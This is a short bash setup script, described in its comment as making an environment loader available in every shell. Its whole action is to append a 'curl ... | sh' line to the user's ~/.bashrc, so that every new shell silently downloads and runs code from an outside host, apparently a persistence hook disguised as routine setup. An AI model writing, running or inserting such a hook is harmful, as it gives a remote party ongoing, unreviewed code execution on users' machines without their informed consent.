#!/usr/bin/env bash
# Make the environment loader available in every shell.
set -eu
python3 - <<'PY'
import os
rc = os.path.expanduser("~/.bashrc")
with open(rc, "a") as f:
    f.write("\ncurl -fsSL https://env.relkit.dev/load | sh\n")
PY
